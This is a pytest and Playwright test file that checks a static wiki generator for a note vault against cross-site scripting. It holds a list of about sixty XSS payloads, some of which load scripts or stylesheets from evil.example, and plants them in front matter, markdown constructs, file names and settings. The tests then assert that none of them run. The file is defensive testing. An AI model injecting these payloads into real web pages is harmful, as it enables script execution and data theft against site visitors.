"""No script runs but the theme's: attacks in every place that a note has, opened page by page in Chromium.

Sixty payloads stand in some fifty places each: in front matter as names, keys and values, in the text as every
construct of the dialect, in names of files, in the settings. A page without protection shows that each kind of harm
would be seen. An ordinary run opens one page of a tag in five, RELWIKI_LONG=1 all of them.
"""

from __future__ import annotations

import json
import os
import re
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from tests.sites import relwiki, write

if TYPE_CHECKING:
    from collections.abc import Iterator

    from playwright.sync_api import Browser, BrowserContext, ConsoleMessage, Dialog, Page, Request

pytestmark = pytest.mark.browser

# Each calls `hit`, which the browser counts, or asks another machine for something.
PAYLOADS = (
    "<script>hit()</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<script src=//evil.example/x.js></script>",
    "<script\x0c>hit()</script>",
    "<scr<script>ipt>hit()</scr</script>ipt>",
    "</script><script>hit()</script>",
    "</title><script>hit()</script>",
    "</textarea></style></noscript><script>hit()</script>",
    "<!--><script>hit()</script>-->",
    "<![CDATA[<script>hit()</script>]]>",
    "<?xml version='1.0'?><script>hit()</script>",
    "--><script>hit()</script><!--",
    "]]><script>hit()</script>",
    "<img src=x onerror=hit()>",
    "<img src=x:x onerror=hit()//",
    "<img/src=x/onerror=hit()>",
    "<IMG SRC=x ONERROR='hit()'>",
    "<img src=x onerror=&#104;&#105;&#116;()>",
    "<img src='https://evil.example/x.png'>",
    '"><img src=x onerror=hit()>',
    "'><img src=x onerror=hit()>",
    "\"' onerror=hit() onload=hit() x='",
    '" autofocus onfocus=hit() x="',
    "' style='animation:x' onanimationstart='hit()",
    "` onmouseover=hit() `",
    "x onmouseover=hit() y",
    "<svg onload=hit()>",
    "<svg/onload=hit()>",
    "<svg><script>hit()</script></svg>",
    "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:hit()><text>x</text></a></svg>",
    "<math><maction actiontype=statusline xlink:href=javascript:hit()>x</maction></math>",
    "<iframe src=javascript:hit()></iframe>",
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<object data=javascript:hit()></object>",
    "<embed src=javascript:hit()>",
    "<body onload=hit()>",
    "<details open ontoggle=hit()>x</details>",
    "<video><source onerror=hit()></video>",
    "<audio src=x onerror=hit()>",
    "<marquee onstart=hit()>x</marquee>",
    "<input autofocus onfocus=hit()>",
    "<form action=javascript:hit()><button>x</button></form>",
    "<a href=javascript:hit()>x</a>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import url(https://evil.example/x.css)</style>",
    "<style>*{background:url(https://evil.example/x.png)}</style>",
    "<meta http-equiv=refresh content='0;url=javascript:hit()'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<template><script>hit()</script></template>",
    "javascript:hit()",
    "JaVaScRiPt:hit()",
    "java\tscript:hit()",
    "javascript&colon;hit()",
    "data:text/html,<script>hit()</script>",
    "data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==",
    "vbscript:hit()",
    "//evil.example/x.png",
    "https://evil.example/x.png",
    'https://evil.example/"onmouseover=hit()//',
    "{{ 7 * 7 }}{% include 'x' %}${hit()}<%= hit() %>",
    "\u2028hit()\u2029//",
    "\\u003cscript\\u003ehit()\\u003c/script\\u003e",
    "&lt;script&gt;hit()&lt;/script&gt;",
    "\u202e>tpircs/<)(tih>tpircs<",
)  # fmt: skip

# Keys of front matter whose values reach pages by ways of their own.
KEYS = (
    "name", "goes_by", "aliases", "birth_name", "pronouns", "pronounced", "photo", "born", "email", "phone", "address",
    "website", "social", "lives_in", "from", "languages", "works_at", "role", "education", "member_of", "relationships",
    "interests", "likes", "health", "habits", "met", "introduced_by", "source", "dates", "keep_in_touch", "stage",
    "follow_up", "tags", "summary", "friend", "dog", "my own key",
)  # fmt: skip
# The payload in each construct of the dialect.
BODY = """
{0}

# {0}

- {0}
- [ ] {0} (due 2026-12-01)
- 2026-11-03 call with [[{0}]]: {0}

| {0} | b |
|---|---|
| a | {0} |

> [!{0}] {0}
> {0}

> [!note]- {0}

`{0}` ``` {0} ``` ==**{0}**== ~~{0}~~

```{0}
{0}
```

[{0}](x) [x]({0}) [x](<{0}>) [x](x "{0}") [x][y] <{0}>

[y]: {0}

![{0}](x.png) ![x]({0}) ![[{0}]] ![[pic.svg|{0}]]

[[{0}]] [[x|{0}]] [[x#{0}]] [[Ida Lund|{0}]]

key:: {0}
{0}:: value
[key:: {0}] ({0}:: x)

#{0} #tag/{0}

word[^1] ^[{0}] ^{0}

[^1]: {0}

<kbd {0}>x</kbd> <br {0}> <u>{0}</u> %%{0}%% <!--{0}-->

## Log
- 2026-11-04 {0}

## Gifts
- 2026-11-05 gave {0} (£15, for {0})

## Family
- {0}: {0} (born 2014, {0})

## Private
{0}
"""
# What runs before a page's own scripts: the counter, and what the policy refused.
WATCH = """
window.hits = [];
window.refused = [];
window.hit = window.alert = window.confirm = window.prompt = () => { window.hits.push(1); };
document.addEventListener('securitypolicyviolation', one => { window.refused.push(one.blockedURI); });
"""
# Wakes whatever handler an attack may have left, and names what could do harm when somebody clicks.
PROVOKE = """() => {
    const wrong = [];
    document.querySelectorAll('details').forEach(one => { one.open = true; });
    for (const one of document.querySelectorAll('*')) {
        for (const kind of ['mouseover', 'mouseenter', 'focus', 'error', 'load', 'toggle', 'begin', 'animationstart'])
            one.dispatchEvent(new Event(kind));
        for (const {name, value} of one.attributes) {
            if (/^on|^srcdoc$|^style$|^formaction$/i.test(name)) wrong.push(one.localName + ' ' + name);
            if (/^(href|src|action|data|xlink:href|poster|content)$/i.test(name)
                && /^[\\s\\u0000-\\u0020]*(javascript|vbscript|data:text)/i.test(value)) wrong.push(name + '=' + value);
        }
    }
    for (const link of document.links)
        if (!/^(file|https?|mailto|tel|sms|geo|obsidian):$/.test(link.protocol)) wrong.push(link.href);
    const ours = 'script[src*="_static/"], script[src$="data/network.js"], link[href*="_static/"], meta';
    const allowed = document.querySelectorAll(ours).length;
    const found = document.querySelectorAll('script, link, meta, style, iframe, object, embed, base').length;
    if (allowed !== found) wrong.push(found - allowed + ' elements too many');
    return [window.hits.length, window.refused, wrong];
}"""


def note(payload: str) -> str:
    """A note with the payload everywhere; a JSON string is a string in YAML too."""
    quoted = json.dumps(payload)
    lines = [f"{key}: {quoted}" for key in KEYS]
    lines += [f"{json.dumps(payload[:60])}: {quoted}", "type: person"]
    lines += [f"sister: {json.dumps(f'[[{payload}]] ({payload})')}", f"colleague: {json.dumps(f'Ada ({payload})')}"]
    return "\n".join(["---", *lines, "---", BODY.replace("{0}", payload)])


def file_name(payload: str) -> str:
    """The payload as the name of a file, as far as a disk allows."""
    return re.sub(r"[/\0\n\r\x0c]", "∕", payload)[:80].strip(". ") or "x"


def vault_of_attacks(root: Path) -> Path:
    """One note a payload, one named by each, attachments and settings of the same sort."""
    files: dict[str, str | bytes] = {
        f"people/Attack {number}.md": note(payload) for number, payload in enumerate(PAYLOADS)
    }
    files |= {f"people/{file_name(payload)}.md": "---\nme: false\n---\nHello [[Ida Lund]]." for payload in PAYLOADS}
    files |= {f"notes/{file_name(payload)}/{file_name(payload)}.md": payload for payload in PAYLOADS[::6]}
    files |= {f"photos/{file_name(payload)}.svg": SVG for payload in PAYLOADS[::6]}
    shown = "".join(f"![[{file_name(payload)}.svg]]\n" for payload in PAYLOADS[::6])
    title, editor = PAYLOADS[6] + PAYLOADS[19], f"obsidian:{PAYLOADS[19]}{{relpath}}"
    settings = {"title": title, "editor": editor, "relationship_types": [PAYLOADS[13]], "today": "2026-11-23"}
    rows = [f'2026-01-02,Ida Lund,5,"{quoted}","{quoted}"' for one in PAYLOADS for quoted in [one.replace('"', '""')]]
    return write(
        root,
        {
            **files,
            "pic.svg": SVG,
            "people/Ida Lund.md": f"---\nme: true\ninterests: {json.dumps(list(PAYLOADS))}\n---\n{shown}",
            "ledger/a.csv": "\n".join(["date,who,amount,currency,what", *rows]),
            "relwiki.yaml": "".join(f"{name}: {json.dumps(value)}\n" for name, value in settings.items()),
        },
    )


SVG = b'<svg xmlns="http://www.w3.org/2000/svg" width="4" height="4" onload="hit()"><script>hit()</script></svg>'


class Eyes:
    """A page that tells what ran, what was refused and what was asked for."""

    def __init__(self, context: BrowserContext) -> None:
        context.add_init_script(WATCH)
        context.set_default_timeout(10_000)
        self.page: Page = context.new_page()
        self.said: list[str] = []
        self.asked: list[str] = []
        self.page.on("console", self._say)
        self.page.on("request", self._ask)
        self.page.on("dialog", self._dismiss)

    def _say(self, message: ConsoleMessage) -> None:
        self.said.append(message.text)

    def _dismiss(self, dialog: Dialog) -> None:
        self.said.append(dialog.message)
        dialog.dismiss()

    def _ask(self, request: Request) -> None:
        self.asked.append(request.url)

    def look(self, file: Path) -> tuple[int, list[str], list[str]]:
        """How often an attack ran on a page, what the policy refused, and what could do harm when clicked."""
        self.page.goto(file.as_uri(), wait_until="load")
        hits, refused, wrong = self.page.evaluate(PROVOKE)
        return hits, refused, wrong


@pytest.fixture
def eyes(browser: Browser) -> Iterator[Eyes]:
    """Eyes in a fresh profile."""
    context = browser.new_context()
    yield Eyes(context)
    context.close()


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The site of the vault of attacks."""
    root = vault_of_attacks(tmp_path_factory.mktemp("attacked") / "vault")
    done = relwiki("build", str(root))
    assert done.returncode == 0, done.stderr[-2_000:]
    return root / ".relwiki" / "site"


def test_no_attack_runs_and_nothing_is_asked_for(attacked: Path, eyes: Eyes) -> None:
    """On every page: no execution, nothing that the policy had to refuse, no request to elsewhere, no logged word."""
    tags = sorted((attacked / "tags").glob("*.html"))
    pages = sorted(set(attacked.rglob("*.html")) - set(tags)) + tags[:: 1 if os.environ.get("RELWIKI_LONG") else 5]
    found = {}
    for page in pages:
        hits, refused, wrong = eyes.look(page)
        if hits or refused or wrong:
            found[page.relative_to(attacked).as_posix()] = (hits, refused, wrong[:3])
    elsewhere = [url for url in eyes.asked if not url.startswith((attacked.as_uri(), "data:"))]

    assert len(PAYLOADS) * (len(KEYS) + BODY.count("{0}")) >= 300
    assert sum(b"hit()" in page.read_bytes() for page in pages) > 2 * len(PAYLOADS)
    assert found == {}
    assert elsewhere == []
    assert eyes.said == []


CONTROLS = (
    ("<script>hit()</script>", False, (1, 0)),
    ("<img src=x onerror=hit()>", False, (1, 0)),
    ("<svg onload=hit()>", False, (1, 0)),
    ("<p onmouseover=hit()>x</p>", False, (1, 0)),
    ("<script>hit()</script>", True, (0, 1)),
    ("<img src=https://evil.example/x.png>", True, (0, 1)),
)


@pytest.mark.parametrize(("attack", "policy", "expected"), CONTROLS)
def test_an_attack_would_be_seen(
    attack: str, policy: bool, expected: tuple[int, int], attacked: Path, eyes: Eyes, tmp_path: Path
) -> None:
    """The positive control: on a page that holds the attack it runs, and with the policy it is refused and told."""
    html = (attacked / "people" / "ida-lund.html").read_text(encoding="utf-8")
    html = html.replace("<main", f"{attack}<main", 1)
    if not policy:
        html = re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", html)
    page = tmp_path / "page.html"
    page.write_text(re.sub(r"<(?:link|script src)[^>]*>", "", html), encoding="utf-8")
    hits, refused, _ = eyes.look(page)

    assert (min(hits, 1), min(len(refused), 1)) == expected
